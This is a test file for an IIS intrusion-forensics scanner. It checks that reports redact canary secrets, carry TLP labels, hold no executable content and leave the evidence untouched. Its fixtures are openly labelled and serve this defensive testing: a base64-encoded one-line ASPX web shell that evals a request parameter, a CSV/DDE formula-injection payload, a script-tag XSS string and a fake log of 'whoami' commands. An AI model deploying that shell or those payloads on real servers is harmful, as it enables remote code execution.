// What a run leaves behind: nothing secret, nothing that runs or alarms, the TLP on all of it, the evidence as it was.

import { createHash } from 'node:crypto';
import { readdirSync, readFileSync, statSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { expect, test } from 'vitest';
import type { Assessment } from '@postern/core';
import { postern, posternJson } from './commands.ts';
import { evidenceFolder, freshFolder } from './scanning.ts';

/** A page that runs what a request tells it; encoded, so that no virus scanner takes the checkout for a victim. */
const shell = Buffer.from(
  'PCVAIFBhZ2UgTGFuZ3VhZ2U9IkpzY3JpcHQiJT48JWV2YWwoUmVxdWVzdC5JdGVtWyJrIl0sInVuc2FmZSIpOyU+',
  'base64',
).toString();
/** What the page does, as text; put together for the same reason. */
const telltale = ['eval(', 'Request'].join('');
const secrets = ['SecretCanary0123456789', 'HunterSecret2'];
const formula = "=cmd|'/C+calc'!A0";
const markup = `<script>${telltale}["k"])</script>`;

const row = (time: string, query: string, agent: string): string =>
  `2021-03-03 ${time} 10.0.0.5 POST /aspnet_client/x.aspx ${query} 443 - 198.51.100.7 ${agent} - 200 0 0 15\r\n`;
const log =
  '#Fields: date time s-ip cs-method cs-uri-stem cs-uri-query s-port cs-username c-ip cs(User-Agent) cs(Referer) sc-status sc-substatus sc-win32-status time-taken\r\n' +
  row('10:00:00', `cmd=whoami&msExchEcpCanary=${secrets[0]}`, formula) +
  row('10:00:01', `cmd=x&password=${secrets[1]}`, markup);

const evidence = (): string =>
  evidenceFolder(
    new Map([
      ['C/inetpub/logs/LogFiles/W3SVC1/u_ex210303.log', log],
      ['C/inetpub/wwwroot/aspnet_client/x.aspx', shell],
    ]),
  );

async function run(...more: readonly string[]): Promise<ReadonlyMap<string, string>> {
  const out = join(freshFolder(), 'out');
  const { status, out: summary } = await postern(['scan', evidence(), '--out', out, ...more]);
  expect(status).toBe(0);
  const files = readdirSync(out).map((name) => [name, readFileSync(join(out, name), 'utf8')] as const);
  return new Map([...files, ['summary', summary]]);
}

test('the evidence is worth it: secrets, formulas and markup are in it, and it is an intrusion', async () => {
  const { assessment } = await posternJson([evidence()]);
  expect(assessment.servers[0]?.headline?.verdict).toBe('compromised');
  expect(secrets.every((secret) => log.includes(secret))).toBe(true);
});

test('no secret is in any output; its tag is', async () => {
  const outputs = await run();
  expect(outputs.size).toBe(7);
  for (const [name, text] of outputs)
    expect([name, secrets.filter((secret) => text.includes(secret))]).toEqual([name, []]);
  expect(outputs.get('findings.jsonl')).toContain('‹secret:');
});

test('nothing in an output would run, alarm a virus scanner or be a formula', async () => {
  for (const [name, text] of await run()) {
    expect([name, text.includes(telltale)]).toEqual([name, false]);
    expect([name, text.includes('<script>')]).toEqual([name, false]);
    expect([name, name.endsWith('.csv') && /(?:^|,)"?[=@+]/m.test(text)]).toEqual([name, false]);
  }
});

test.each(['AMBER+STRICT', 'RED'])('TLP:%s is on all of them', async (tlp) => {
  const outputs = await run(...(tlp === 'RED' ? ['--tlp', tlp] : []));
  for (const [name, text] of outputs) expect([name, text.includes(tlp)]).toEqual([name, true]);
});

test('the evidence is as it was', async () => {
  const folder = evidence();
  const state = (): readonly (readonly [string, number, string])[] =>
    readdirSync(folder, { recursive: true, encoding: 'utf8' })
      .toSorted()
      .map((path) => {
        const stats = statSync(join(folder, path));
        const bytes = stats.isFile() ? readFileSync(join(folder, path)) : '';
        return [path, stats.mtimeMs, createHash('sha256').update(bytes).digest('hex')];
      });
  const before = state();
  await postern(['scan', folder, '--out', join(freshFolder(), 'out')]);
  expect(state()).toEqual(before);
});

test('a ruling is known by the id of its finding in the next run; before and after are told', async () => {
  const folder = evidence();
  const { assessment } = await posternJson([folder]);
  const review = join(freshFolder(), 'review.json');
  const ruling = { disposition: 'own-test', author: 'eve', date: '2021-04-01', reason: 'our own exercise' };
  writeFileSync(review, JSON.stringify(assessment.findings.map(({ id }) => ({ id, ...ruling }))));
  const out = join(freshFolder(), 'out');
  await postern(['scan', folder, '--review', review, '--out', out]);
  const after = JSON.parse(readFileSync(join(out, 'assessment.json'), 'utf8')) as Assessment;
  const campaign = after.servers[0]?.campaigns[0];
  expect(campaign?.verdict).toBe('undetermined');
  expect(campaign?.limits.map(({ text }) => text)).toContain(
    'Without the rulings of people the verdict would be: compromised.',
  );
  expect(after.findings.map(({ id }) => id)).toEqual(assessment.findings.map(({ id }) => id));
  expect(readFileSync(join(out, 'report.html'), 'utf8')).toContain('the verdict would be: compromised');
});
